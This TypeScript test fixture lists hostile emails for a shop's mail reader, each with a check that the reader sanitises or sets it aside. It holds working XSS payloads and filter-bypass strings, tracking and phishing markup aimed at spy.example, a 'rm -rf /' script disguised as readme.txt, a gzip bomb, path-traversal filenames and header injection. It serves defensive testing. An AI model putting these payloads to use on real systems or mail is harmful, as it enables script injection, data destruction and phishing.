import { gzipSync } from 'node:zlib';
import type { ReadMail } from '../../../../src/server/mail/door';
import { fileMail, htmlMail, mailOf, textMail, type Part } from './make-mail';

/** What has to be so once a mail was read. */
type Check = (mail: ReadMail) => boolean;

export interface HostileMail {
  readonly what: string;
  readonly bytes: Buffer;
  readonly check: Check;
}

const says =
  (...words: readonly string[]): Check =>
  ({ text }) =>
    words.every((word) => text.includes(word));

const shows =
  (words: string): Check =>
  ({ html, text }) =>
    `${html ?? ''}${text}`.includes(words);

const aside =
  (refusal: string): Check =>
  ({ files }) =>
    files.length === 1 && files[0]?.refusal === `mail.${refusal}` && files[0].bytes === undefined;

const keeps =
  (filename: string, mime: string): Check =>
  ({ files }) =>
    files.length === 1 &&
    files[0]?.filename === filename &&
    files[0].mime === mime &&
    files[0].refusal === null &&
    files[0].bytes !== undefined;

const pictures =
  (count: number): Check =>
  ({ remote_pictures }) =>
    remote_pictures === count;

const byMachine: Check = ({ automatic }) => automatic;
const byPerson: Check = ({ automatic }) => !automatic;

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const ZIP = Buffer.from([0x50, 0x4b, 0x03, 0x04, 20, 0, 0, 0, 8, 0, ...Array<number>(40).fill(0)]);
const nul = String.fromCharCode(0);

/** Markup that would run, load, send or hide something; the words `fine here` have to be left of each. */
const MARKUP: Readonly<Record<string, string>> = {
  'a script': '<b>fine here</b><script>window.ran = true</script>',
  'a script in a split tag': '<b>fine here</b><scr<script>ipt>window.ran = true</scr</script>ipt>',
  'a picture that fails': '<b>fine here</b><img src=x onerror="window.ran = true">',
  'a drawing that loads': '<b>fine here</b><svg onload="window.ran = true"><script>window.ran = true</script></svg>',
  'a link to a script': '<a href="javascript:window.ran = true">fine here</a>',
  'a link to a script, disguised': '<a href=" java&#10;script&colon;window.ran = true">fine here</a>',
  'a link to data': '<a href="data:text/html,<script>window.ran = true</script>">fine here</a>',
  'a link to a script of old': '<a href="vbscript:window.ran">fine here</a>',
  'a frame': '<b>fine here</b><iframe srcdoc="<script>parent.ran = true</script>"></iframe>',
  'an object': '<b>fine here</b><object data="https://spy.example/o"></object><embed src="https://spy.example/e">',
  'a form': '<b>fine here</b><form action="https://spy.example/login"><input name="password"><button>Sign in</button></form>',
  'a form of a button': '<b>fine here</b><button formaction="https://spy.example">Go on</button>',
  'a style of the page around': '<style>body { display: none }</style><b>fine here</b>',
  'a style that covers all': '<b>fine here</b><div style="position: fixed; inset: 0; background: white">x</div>',
  'a style that loads': '<b style="background: url(https://spy.example/s.png)">fine here</b>',
  'a base': '<base href="https://spy.example/"><a href="page">fine here</a>',
  'a page that moves on': '<meta http-equiv="refresh" content="0; url=https://spy.example"><b>fine here</b>',
  'a style sheet': '<link rel="stylesheet" href="https://spy.example/s.css"><b>fine here</b>',
  'a video': '<b>fine here</b><video src="https://spy.example/v" poster="https://spy.example/p" autoplay></video>',
  'a sound': '<b>fine here</b><audio src="https://spy.example/a" autoplay></audio>',
  'formulas that become markup': '<b>fine here</b><math><mtext><table><mglyph><style><img src=x onerror="window.ran = true">',
  'a form that takes names': '<b>fine here</b><form id="x" name="getElementById"><input name="attributes"></form>',
  'a template': '<b>fine here</b><template><script>window.ran = true</script></template>',
  'text without scripts': '<b>fine here</b><noscript><p title="</noscript><img src=x onerror=window.ran=true>"></noscript>',
  'a comment of Outlook': '<!--[if mso]><script>window.ran = true</script><![endif]--><b>fine here</b>',
  'a comment that ends early': '<!--><img src=x onerror="window.ran = true">--><b>fine here</b>',
  'an attribute that breaks out': '<a title="\'><img src=x onerror=window.ran=true>" href="https://a.example">fine here</a>',
  'an element with a name of its own': '<x-y onclick="window.ran = true"><b>fine here</b></x-y>',
  'things that are pressed': '<details open ontoggle="window.ran = true"><summary>x</summary></details><b>fine here</b>',
  'things that get the focus': '<b tabindex="1" autofocus onfocus="window.ran = true">fine here</b>',
  'text that runs along': '<marquee onstart="window.ran = true"><b>fine here</b></marquee>',
  'a link that reports': '<a href="https://a.example" ping="https://spy.example">fine here</a>',
  'a text field that is never closed': '<b>fine here</b><textarea><img src=x onerror="window.ran = true">',
  'a title that is closed in it': '<title></title><img src=x onerror="window.ran = true"></title><b>fine here</b>',
  'tags nobody closes': `<b>fine here</b>${'<div>'.repeat(150)}`,
  'a map': '<b>fine here</b><map name="m"><area href="javascript:window.ran = true"></map>',
};

const markup = Object.entries(MARKUP).map(([what, html]): HostileMail => ({ what, bytes: htmlMail(html), check: shows('fine here') }));

const PICTURES: readonly HostileMail[] = [
  { what: 'a remote picture', bytes: htmlMail('<p>Hi <b>you</b> <img src="https://spy.example/1.png"></p>'), check: pictures(1) },
  { what: 'a tracking pixel', bytes: htmlMail('<b>Hi</b><img src="http://spy.example/t?id=1" width="1" height="1">'), check: pictures(1) },
  { what: 'a picture without a scheme', bytes: htmlMail('<b>Hi</b><img src="//spy.example/t.gif">'), check: pictures(1) },
  { what: 'a picture of several sizes', bytes: htmlMail('<b>Hi</b><img srcset="//spy.example/2x.png 2x">'), check: pictures(1) },
  {
    what: 'a picture behind a table',
    bytes: htmlMail('<table background="https://spy.example/b.png"><tr><td>Hi</td></tr></table>'),
    check: pictures(1),
  },
  { what: 'forty pictures', bytes: htmlMail(`<b>Hi</b>${'<img src="https://spy.example/p.png">'.repeat(40)}`), check: pictures(40) },
  {
    what: 'a picture of its own',
    bytes: mailOf({
      type: 'multipart/related',
      body: [
        { type: 'text/html', body: '<b>Look:</b> <img src="cid:me@buyer">' },
        {
          type: 'image/png; name="me.png"',
          body: PNG,
          headers: ['Content-ID: <me@buyer>', 'Content-Disposition: inline; filename="me.png"'],
        },
      ],
    }),
    check: (mail) => keeps('me.png', 'image/png')(mail) && pictures(0)(mail),
  },
];

const FILES: readonly HostileMail[] = [
  { what: 'an archive', bytes: fileMail('photos.zip', ZIP, 'application/zip'), check: aside('fileArchive') },
  { what: 'an archive that calls itself a picture', bytes: fileMail('photo.png', ZIP, 'image/png'), check: aside('fileArchive') },
  {
    what: 'an archive bomb',
    bytes: fileMail('bomb.gz', gzipSync(Buffer.alloc(20_000_000)), 'application/gzip'),
    check: aside('fileArchive'),
  },
  { what: 'a program', bytes: fileMail('setup.exe', Buffer.from('MZ\x90\x00')), check: aside('fileProgram') },
  {
    what: 'a program that calls itself a document',
    bytes: fileMail('invoice.pdf', Buffer.from('MZ\x90\x00'), 'application/pdf'),
    check: aside('fileProgram'),
  },
  { what: 'a program of Linux', bytes: fileMail('tool', Buffer.from('\x7fELF\x02', 'latin1')), check: aside('fileProgram') },
  { what: 'a script of a shell', bytes: fileMail('readme.txt', '#!/bin/sh\nrm -rf /', 'text/plain'), check: aside('fileProgram') },
  { what: 'a name with two endings', bytes: fileMail('invoice.pdf.js', 'alert(1)'), check: aside('fileProgram') },
  { what: 'a name written backwards', bytes: fileMail('photo\u202egnp.exe', 'text'), check: aside('fileProgram') },
  { what: 'a name that ends in dots', bytes: fileMail('run.exe. . .', 'text'), check: aside('fileProgram') },
  { what: 'a link of Windows', bytes: fileMail('photo.lnk', Buffer.from([0x4c, 0, 0, 0, 1, 0x14, 2, 0])), check: aside('fileProgram') },
  {
    what: 'a document with macros',
    bytes: fileMail('order.docm', Buffer.concat([ZIP, Buffer.from('[Content_Types].xml word/vbaProject.bin')])),
    check: aside('fileArchive'),
  },
  {
    what: 'macros under another name',
    bytes: fileMail('order.docx', Buffer.concat([ZIP, Buffer.from('[Content_Types].xml word/vbaProject.bin')])),
    check: aside('fileProgram'),
  },
  { what: 'a document of old', bytes: fileMail('order.doc', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1])), check: aside('fileProgram') },
  {
    what: 'a document',
    bytes: fileMail('order.docx', Buffer.concat([ZIP, Buffer.from('[Content_Types].xml word/document.xml')])),
    check: keeps('order.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'),
  },
  { what: 'a web page', bytes: fileMail('order.html', '<html><script>alert(1)</script>', 'text/html'), check: aside('filePage') },
  {
    what: 'a web page that calls itself text',
    bytes: fileMail('order.txt', '\n\n<!DOCTYPE html><p>', 'text/plain'),
    check: aside('filePage'),
  },
  {
    what: 'a drawing with a script',
    bytes: fileMail('logo.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', 'image/svg+xml'),
    check: aside('filePage'),
  },
  { what: 'a drawing without its first line', bytes: fileMail('logo.svg', 'plain words', 'image/svg+xml'), check: aside('filePage') },
  {
    what: 'Outlook’s own format',
    bytes: fileMail('winmail.dat', Buffer.from([0x78, 0x9f, 0x3e, 0x22, 1, 0])),
    check: aside('fileOutlook'),
  },
  { what: 'Outlook’s own format by its type', bytes: fileMail('x.bin', 'abc', 'application/ms-tnef'), check: aside('fileOutlook') },
  { what: 'an empty file', bytes: fileMail('nothing.png', ''), check: aside('fileEmpty') },
  { what: 'a file that is too large', bytes: fileMail('large.txt', 'a'.repeat(10 * 1024 * 1024 + 1)), check: aside('fileTooLarge') },
  {
    what: 'a picture under a false name',
    bytes: fileMail('photo.pdf', PNG, 'application/pdf'),
    check: keeps('photo.pdf.png', 'image/png'),
  },
  { what: 'a picture of a stranger type', bytes: fileMail('photo.png', PNG, 'text/html'), check: keeps('photo.png', 'image/png') },
  { what: 'a name with a path', bytes: fileMail('../../etc/passwd.png', PNG), check: keeps('passwd.png', 'image/png') },
  { what: 'a name with a path of Windows', bytes: fileMail('C:\\\\Windows\\\\a.png', PNG), check: keeps('a.png', 'image/png') },
  { what: 'a name of dots', bytes: fileMail('..', PNG), check: keeps('file-1.png', 'image/png') },
  { what: 'a name with markup', bytes: fileMail('<img onerror=x>.png', PNG), check: keeps('_img onerror=x_.png', 'image/png') },
  {
    what: 'an endless name',
    bytes: fileMail(`${'n'.repeat(5000)}.png`, PNG),
    check: ({ files }) => files[0]?.filename.length === 120 && files[0].filename.endsWith('.png'),
  },
  {
    what: 'a date for a calendar',
    bytes: fileMail('meet.ics', 'BEGIN:VCALENDAR\r\nEND:VCALENDAR', 'text/calendar'),
    check: keeps('meet.ics', 'text/calendar'),
  },
  {
    what: 'an invitation in place of a text',
    bytes: mailOf({
      type: 'multipart/alternative',
      body: [
        { type: 'text/plain', body: 'Come along' },
        { type: 'text/calendar; method=REQUEST', body: 'BEGIN:VCALENDAR\r\nEND:VCALENDAR' },
      ],
    }),
    check: (mail) => says('Come along')(mail) && mail.files[0]?.mime === 'text/calendar',
  },
  {
    what: 'a mail in a mail',
    bytes: mailOf({
      type: 'multipart/mixed',
      body: [
        { type: 'text/plain', body: 'See below' },
        {
          type: 'message/rfc822',
          body: 'From: a@b.example\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<script>window.ran = true</script><b>inner</b>',
        },
      ],
    }),
    check: (mail) => says('See below')(mail) && aside('fileMail')(mail),
  },
  {
    what: 'a mail as a file',
    bytes: mailOf({
      type: 'multipart/mixed',
      body: [
        { type: 'text/plain', body: 'See below' },
        { type: 'message/rfc822', body: 'From: a@b.example\r\n\r\nx', headers: ['Content-Disposition: attachment; filename="m.eml"'] },
      ],
    }),
    check: aside('fileMail'),
  },
  {
    what: 'a hundred files',
    bytes: mailOf({
      type: 'multipart/mixed',
      body: Array.from({ length: 100 }, (_, at) => ({
        type: 'image/png',
        body: PNG,
        headers: [`Content-Disposition: attachment; filename="${at}.png"`],
      })),
    }),
    check: ({ files }) =>
      files.filter(({ bytes }) => bytes).length === 20 && files.filter(({ refusal }) => refusal === 'mail.fileTooMany').length === 80,
  },
];

const nested = (levels: number): Part => {
  let part: Part = { type: 'text/plain', body: 'deep down' };
  for (let level = 0; level < levels; level += 1) part = { type: 'multipart/mixed', body: [part] };
  return part;
};

const SHAPES: readonly HostileMail[] = [
  { what: 'nothing at all', bytes: Buffer.alloc(0), check: ({ from, date }) => from === null && date > 0 },
  { what: 'no headers', bytes: Buffer.from('\r\n\r\njust words'), check: says('just words') },
  { what: 'noise', bytes: Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919) % 256)), check: () => true },
  { what: 'a boundary that never comes', bytes: textMail('--other\r\nwords', {}, 'multipart/mixed; boundary="none"'), check: () => true },
  { what: 'parts in parts in parts', bytes: mailOf(nested(300)), check: () => true },
  {
    what: 'five thousand empty parts',
    bytes: mailOf({ type: 'multipart/mixed', body: Array.from({ length: 5000 }, () => ({ type: 'text/plain', body: '' })) }),
    check: () => true,
  },
  { what: 'a header of a megabyte', bytes: textMail('words', { 'X-Long': 'x'.repeat(1_000_000) }), check: says('words') },
  {
    what: 'twenty thousand headers',
    bytes: textMail('words', { 'X-Many': 'x\r\nX-Many: y'.repeat(20_000) }),
    check: ({ set_aside }) => set_aside === 'mail.unreadable',
  },
  {
    what: 'ten thousand readers',
    bytes: textMail('words', { To: Array.from({ length: 10_000 }, (_, at) => `r${at}@x.example`).join(', ') }),
    check: ({ to }) => to.length === 50,
  },
  {
    what: 'a text of ten megabytes',
    bytes: textMail('word '.repeat(2_000_000)),
    check: ({ text }) => text.length <= 200_000 && text.startsWith('word word'),
  },
  { what: 'one line of five megabytes', bytes: textMail('x'.repeat(5_000_000)), check: ({ text }) => text.length === 200_000 },
  { what: 'markup of a hundred thousand levels', bytes: htmlMail(`${'<b>'.repeat(100_000)}deep`), check: ({ html }) => html === null },
  {
    what: 'a table of fifty thousand cells',
    bytes: htmlMail(`<table><tr>${'<td>x</td>'.repeat(50_000)}</tr></table>`),
    check: (mail) => mail.html === null && shows('x')(mail),
  },
  {
    what: 'quotes of a hundred levels',
    bytes: textMail(Array.from({ length: 100 }, (_, at) => `${'>'.repeat(at)} thread`).join('\r\n')),
    check: says('thread'),
  },
  { what: 'a character set nobody knows', bytes: textMail('words', {}, 'text/plain; charset=klingon'), check: says('words') },
  {
    what: 'the wrong character set',
    bytes: mailOf({ type: 'text/plain; charset=utf-8', body: Buffer.from('gr\xfc\xdfe', 'latin1') }),
    check: says('gr'),
  },
  {
    what: 'an old character set',
    bytes: mailOf({ type: 'text/plain; charset=iso-8859-1', body: Buffer.from('Gr\xfc\xdfe', 'latin1') }),
    check: says('Grüße'),
  },
  {
    what: 'a set that hides markup',
    bytes: textMail('+ADw-script+AD4-window.ran = true+ADw-/script+AD4-', {}, 'text/html; charset=utf-7'),
    check: () => true,
  },
  {
    what: 'a subject in pieces',
    bytes: textMail('words', { Subject: '=?utf-8?Q?Gr=C3=BC?= =?utf-8?Q?=C3=9Fe?=' }),
    check: ({ subject }) => subject === 'Grüße',
  },
  {
    what: 'a subject with line ends',
    bytes: textMail('words', { Subject: '=?utf-8?Q?Hi=0D=0ABcc:_all@x.example?=' }),
    check: ({ subject }) => subject === 'Hi Bcc: all@x.example',
  },
  { what: 'an endless subject', bytes: textMail('words', { Subject: 's'.repeat(10_000) }), check: ({ subject }) => subject.length === 255 },
  { what: 'a subject that turns round', bytes: textMail('words', { Subject: 'a\u202eb' }), check: ({ subject }) => subject === 'ab' },
  { what: 'a zero in the text', bytes: textMail(`be${nul}fore`), check: says('before') },
  { what: 'half of a character', bytes: htmlMail('<b>x</b>&#xd800;y'), check: shows('y') },
  {
    what: 'a writer with a name of markup',
    bytes: textMail('words', { From: '"<script>alert(1)</script>" <m@b.example>' }),
    check: ({ from }) => from?.address === 'm@b.example',
  },
  {
    what: 'two writers',
    bytes: textMail('words', { From: 'a@b.example, c@d.example' }),
    check: ({ from }) => from?.address === 'a@b.example',
  },
  { what: 'no writer', bytes: textMail('words', { From: null }), check: ({ from }) => from === null },
  { what: 'a writer that is no address', bytes: textMail('words', { From: 'root' }), check: ({ from }) => from === null },
  {
    what: 'a day that has not come',
    bytes: textMail('words', { Date: 'Mon, 02 Nov 2099 10:00:00 +0000' }),
    check: ({ date }) => date === RECEIVED_AT,
  },
  {
    what: 'a day before mail',
    bytes: textMail('words', { Date: 'Mon, 02 Nov 1970 10:00:00 +0000' }),
    check: ({ date }) => date === RECEIVED_AT,
  },
  { what: 'no day', bytes: textMail('words', { Date: 'yesterday' }), check: ({ date }) => date === RECEIVED_AT },
  { what: 'no id', bytes: textMail('words', { 'Message-ID': null }), check: ({ id }) => /^[0-9a-f]{32}@mail\.invalid$/u.test(id) },
  { what: 'an id that is none', bytes: textMail('words', { 'Message-ID': '<a b\tc>' }), check: ({ id }) => id.endsWith('@mail.invalid') },
  {
    what: 'an endless id',
    bytes: textMail('words', { 'Message-ID': `<${'i'.repeat(5000)}@x>` }),
    check: ({ id }) => id.endsWith('@mail.invalid'),
  },
  { what: 'two ids', bytes: textMail('words', { 'Message-ID': '<a@x.example> <b@x.example>' }), check: ({ id }) => id === 'a@x.example' },
  {
    what: 'a thousand earlier mails',
    bytes: textMail('words', { References: Array.from({ length: 1000 }, (_, at) => `<${at}@x.example>`).join(' ') }),
    check: ({ references }) => references.length <= 20,
  },
];

const AUTOMATIC: readonly HostileMail[] = [
  { what: 'an answer by itself', bytes: textMail('I am away', { 'Auto-Submitted': 'auto-replied' }), check: byMachine },
  { what: 'a mail that says it is by a person', bytes: textMail('Hi', { 'Auto-Submitted': 'no' }), check: byPerson },
  { what: 'a mail to many', bytes: textMail('News', { Precedence: 'bulk' }), check: byMachine },
  { what: 'a newsletter', bytes: textMail('News', { 'List-Id': '<news.example>', Precedence: 'bulk' }), check: byMachine },
  {
    what: 'a newsletter to leave by one click',
    bytes: textMail('News', { 'List-Unsubscribe': '<https://n.example/u>', 'List-Unsubscribe-Post': 'List-Unsubscribe=One-Click' }),
    check: byMachine,
  },
  {
    what: 'an absence note without a header that says so',
    bytes: textMail('Away', { Subject: 'Abwesenheitsnotiz: Ihre Frage' }),
    check: byMachine,
  },
  {
    what: 'a person’s mail that a group passed on',
    bytes: textMail('Where is it?', {
      'List-Id': '<support.shop.example>',
      'List-Post': '<mailto:support@shop.example>',
      'List-Unsubscribe': '<mailto:leave@shop.example>',
      Precedence: 'bulk',
    }),
    check: byPerson,
  },
  { what: 'a person’s mail that wants no absence notes', bytes: textMail('Hi', { 'X-Auto-Response-Suppress': 'All' }), check: byPerson },
  { what: 'a person’s mail about absence', bytes: textMail('Hi', { Subject: 'Out of office shirts' }), check: byPerson },
  { what: 'a mail without a way back', bytes: textMail('Away', { 'Return-Path': '<>' }), check: byMachine },
  { what: 'a mail of a mail server', bytes: textMail('Delayed', { From: 'MAILER-DAEMON@mx.example' }), check: byMachine },
  { what: 'a buyer’s own mail', bytes: textMail('Where is it?'), check: byPerson },
];

/** When all of them came, unix seconds. */
export const RECEIVED_AT = 1_793_700_000;

/** Mails no shop wants to get, and what has to be so once they were read. */
export const HOSTILE: readonly HostileMail[] = [...markup, ...PICTURES, ...FILES, ...SHAPES, ...AUTOMATIC];
